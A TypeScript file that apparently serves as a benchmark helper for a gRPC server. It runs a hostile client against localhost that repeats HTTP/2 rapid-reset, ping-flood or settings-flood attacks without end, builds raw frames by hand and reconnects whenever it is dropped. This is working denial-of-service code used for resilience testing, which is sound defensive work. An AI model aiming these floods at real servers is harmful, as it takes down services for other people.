/**
 * A hostile client in a process of its own, for `grpc.bench.ts`: `grpc-abuse.js <kind> <port>`. It does one thing on and on, and
 * comes back at once when it is thrown out. Says that it has begun.
 */
import { connect } from "node:net";
import { type AbuseKind, UNARY_PATH } from "./grpc-messages.js";

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]);

/** So much is on its way at once, and no more is made before it has left. */
const BURST_BYTES = 65_536;

/** What is sent in the n-th place on a connection. */
const attacks: Readonly<Record<AbuseKind, (n: number) => Buffer>> = {
  "rapid reset": (n) => {
    const stream = 2 * n + 1;
    return Buffer.concat([frame(1, 4, stream, request()), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
  },
  "ping flood": () => frame(6, 0, 0, Buffer.alloc(8)),
  "settings flood": () => frame(4, 0, 0, Buffer.alloc(0)),
};

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** `:method POST`, `:scheme http`, and the rest as literals that nobody need remember (RFC 7541, section 6.2.2). */
function request(): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86, 0x04]),
    text(UNARY_PATH),
    Buffer.from([0x01]),
    text("localhost"),
    Buffer.from([0x0f, 0x10]),
    text("application/grpc"),
  ]);
}

function attack(make: (n: number) => Buffer, port: number): void {
  const socket = connect(port, "127.0.0.1");
  let n = 0;
  const burst = (): void => {
    const frames: Buffer[] = [];
    for (let bytes = 0; bytes < BURST_BYTES; bytes += frames.at(-1)?.length ?? 0) frames.push(make(n++));
    if (socket.destroyed) return;
    if (socket.write(Buffer.concat(frames))) setImmediate(burst);
    else socket.once("drain", burst);
  };
  socket.on("error", () => socket.destroy());
  socket.on("close", () => setImmediate(() => attack(make, port)));
  // What it hears does not matter to it.
  socket.resume();
  socket.write(PREFACE);
  burst();
}

const [, , kind = "", port = ""] = process.argv;
process.on("disconnect", () => process.exit());
attack(attacks[kind as AbuseKind], Number(port));
process.send?.({ begun: true });
